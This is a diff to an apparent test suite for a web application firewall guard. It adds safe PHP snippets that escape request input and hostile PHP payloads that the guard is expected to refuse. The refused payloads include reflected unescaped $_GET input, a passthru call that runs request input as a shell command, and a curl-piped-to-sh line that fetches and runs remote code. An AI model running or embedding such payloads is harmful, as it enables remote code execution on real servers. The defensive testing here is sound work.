@@ -1011,6 +1011,11 @@ def test_an_equality_operator_alone_changes_nothing_other_operators_do(guard: WA
         "Why does this loop print nothing?\n\n<?php foreach ($posts as $post): ?>\n  <h2><?= e($post->title) ?></h2>"
         "\n<?php endforeach; ?>\n\nThanks!",
         "```php\n<?php $stmt = $pdo->prepare('SELECT * FROM posts WHERE slug = ?');\n$stmt->execute([$slug]);\n```\n",
+        # request input read by code that escapes it: how to print a parameter safely
+        "```php\n<?php\n$name = $_GET['name'] ?? 'world';\necho 'Hello, ' . htmlspecialchars($name);\n```\n",
+        "<?php\n$q = $_GET['q'] ?? '';\necho '<p>Results for ' . htmlspecialchars($q, ENT_QUOTES, 'UTF-8') . '</p>';\n",
+        "<?php\nfunction e(string $s): string {\n    return htmlspecialchars($s, ENT_QUOTES, 'UTF-8');\n}\n"
+        "echo '<p>' . e($comment) . '</p>';\n",
     ],
 )
 def test_php_shared_as_code_that_only_presents_its_variables_passes(guard: WAFGuard, snippet: str) -> None:
@@ -1032,6 +1037,10 @@ def test_php_shared_as_code_that_only_presents_its_variables_passes(guard: WAFGu
         "<? echo 'hello'; ?>",  # a probe: a short tag and a literal
         "<?php echo 'vulnerable'; ?>",
         "test<?",
+        "<?php echo $_GET['x']; ?>",  # a probe: request input reflected, escaped by nothing
+        "<?php $q = $_GET['q']; echo htmlspecialchars($q); passthru($q); ?>",
+        # a shell reads what follows the closing tag as it reads the rest
+        "<?php echo htmlspecialchars($title); ?>\n; curl -s http://203.0.113.9/x | sh",
     ],
 )
 def test_php_tags_that_run_more_than_presentation_are_refused(guard: WAFGuard, payload: str) -> None:
